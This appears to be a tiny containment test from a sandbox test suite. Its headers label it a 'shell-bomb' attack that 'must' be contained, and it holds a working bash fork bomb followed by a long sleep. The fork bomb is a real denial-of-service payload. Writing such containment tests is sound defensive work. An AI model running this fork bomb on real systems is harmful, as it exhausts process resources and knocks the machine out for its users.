# attack: shell-bomb
# class: processes that stay
# tries: is the fork bomb that everybody knows
# must: contained
# lab: programs
# quick: yes
bomb() { bomb | bomb & }
bomb
sleep 3600
